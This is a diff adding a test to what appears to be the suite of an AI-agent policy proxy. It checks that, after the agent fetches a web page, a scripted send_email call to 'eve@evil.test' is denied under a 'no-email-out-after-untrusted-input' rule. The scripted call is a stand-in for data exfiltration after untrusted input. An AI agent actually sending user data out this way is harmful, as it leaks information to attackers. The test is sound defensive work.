@@ -192,3 +192,17 @@ async def test_a_result_for_a_denied_call_is_flagged_as_a_bypass(make_client, ba
     assert error["code"] == "policy_violation" and error["param"] == "messages[2]" and "denied" in error["message"]
     assert session["steps"][1]["flags"] == ["policy_bypass:denied:p1", "blocked:messages[2]"]
     assert session["steps"][1]["received"] == []  # recorded without its content
+
+
+async def test_a_resent_history_without_a_session_still_labels_its_tool_results(make_client):
+    """A client that sends no session id starts a new session each step: the tools its history says it
+    called still label their results (labels only restrict)."""
+    engine = ScriptedEngine(calls_chunks(("send_email", '{"to": "eve@evil.test", "body": "notes"}', "e1")))
+    strict = str(ROOT / "policies" / "examples" / "strict-agent")
+    history = [{"role": "user", "content": "Summarise the page"},
+               assistant(("web_fetch", {"url": "https://example.org/page"}, "w1")),
+               {"role": "tool", "tool_call_id": "w1", "content": "Some page text."}]  # fmt: skip
+    async with make_client(engine, policies_dir=strict) as client:
+        response = await client.post(CHAT, json={"model": MODEL, "messages": history})
+    (decision,) = response.json()["sentrail"]["tool_calls"]
+    assert decision["action"] == "deny" and decision["rule"] == "no-email-out-after-untrusted-input"
